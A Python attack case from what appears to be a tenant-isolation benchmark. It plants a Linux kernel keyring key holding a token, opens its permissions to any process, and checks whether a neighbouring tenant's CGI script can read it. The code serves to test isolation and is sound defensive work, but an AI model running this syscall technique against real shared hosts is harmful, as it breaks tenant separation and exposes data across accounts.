"""Leave a keyring in the process that serves the next tenant."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

_LOOK = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
keyctl = 250 if os.uname().machine == "x86_64" else 219
print("Content-Type: text/plain\\n")
for keyring in (-1, -2, -3):
    key = libc.syscall(keyctl, 10, keyring, b"user", b"isobench:left", 0)
    text = ctypes.create_string_buffer(100)
    if key > 0 and libc.syscall(keyctl, 11, key, text, 100) > 0:
        print(text.value.decode())
"""


def attack(given: Given) -> object:
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    add_key, keyctl = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
    join_session_keyring, set_permissions, session_keyring, process_keyring = 1, 5, -3, -2
    libc.syscall(keyctl, join_session_keyring, None)
    word, anybody = given.token.encode(), 0x3F3F3F3F
    for keyring in (session_keyring, process_keyring):
        key = libc.syscall(add_key, b"user", b"isobench:left", word, len(word), keyring)
        if key < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        libc.syscall(keyctl, set_permissions, key, anybody)
        libc.syscall(keyctl, set_permissions, keyring, anybody)
    return "left"


def proof(scene: Scene) -> str | None:
    scene.put("keys.py", _LOOK)
    if scene.token.encode() in scene.visit("keys.py").body:
        return "the neighbour's script finds a key of the attacker's"
    return None
